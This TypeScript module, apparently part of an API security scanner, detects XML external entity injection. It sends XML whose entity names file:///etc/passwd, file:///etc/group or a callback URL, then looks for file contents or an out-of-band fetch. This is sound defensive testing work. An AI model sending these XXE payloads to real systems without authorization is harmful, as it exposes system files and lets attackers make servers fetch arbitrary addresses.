import { leavesOf } from '../../http/leaves.ts';
import type { Exchange } from '../../model.ts';
import type { Scan } from '../../scan.ts';
import { authStep } from '../../spec/names.ts';
import type { OperationCheck, Proof } from '../check.ts';
import { type Ground, groundOf } from '../points.ts';
import { meta } from './meta.ts';

const WAIT_MS = 250;

export const xmlEntities: OperationCheck = {
  meta,
  scope: 'operation',
  parallel: false,
  applies: (operation, scan) => scan.writes && operation.method === 'POST' && operation.body !== null && authStep(operation) !== 'logout',
  async run(scan, operation): Promise<Proof[]> {
    const ground = groundOf(scan, operation);
    if (ground === null) return [];
    const first = await sendDocument(scan, ground, 'file:///etc/passwd');
    if (/root:[^:\n]*:0:0:/.test(first.body)) {
      const second = await sendDocument(scan, ground, 'file:///etc/group');
      if (/root:[^:\n]*:0:/.test(second.body))
        return [
          {
            operation,
            point: 'body',
            reasons: ['an entity that names /etc/passwd is replaced by its lines', 'and one that names /etc/group by that file'],
            evidence: [first, second],
          },
        ];
    }
    // Where the media type is refused, no parser has seen the document.
    if (first.status === 415 || scan.parts.callbacks === null) return [];
    const called = await calledBack(scan, ground);
    const again = called === null ? null : await calledBack(scan, ground);
    if (called === null || again === null) return [];
    const reasons = ['the server fetches the address that an entity names', 'and a second one'];
    return [{ operation, point: 'body', reasons, evidence: [called, again] }];
  },
};

async function calledBack(scan: Scan, ground: Ground): Promise<Exchange | null> {
  const nonce = scan.random.hex(16);
  const exchange = await sendDocument(scan, ground, scan.parts.callbacks!.url(nonce));
  return (await scan.parts.callbacks!.waitFor(nonce, WAIT_MS)) === null ? null : exchange;
}

/** The honest body as XML, every text of it the entity. */
function sendDocument(scan: Scan, ground: Ground, system: string): Promise<Exchange> {
  const call = scan.call(ground.operation, ground.values);
  const names = leavesOf(ground.values.body)
    .map(({ name }) => name)
    .filter((name) => /^[A-Za-z_][\w-]*$/.test(name));
  const members = [...new Set(names.length > 0 ? names : ['value'])].map((name) => `<${name}>&sp;</${name}>`).join('');
  const body = `<?xml version="1.0"?><!DOCTYPE root [<!ENTITY sp SYSTEM "${system}">]><root>${members}</root>`;
  const own = ground.operation.body?.mediaType ?? '';
  const xml = { ...call, headers: { ...call.headers, 'content-type': own.includes('xml') ? own : 'application/xml' }, body };
  return ground.session === null ? scan.send(xml) : scan.as(ground.session, xml);
}
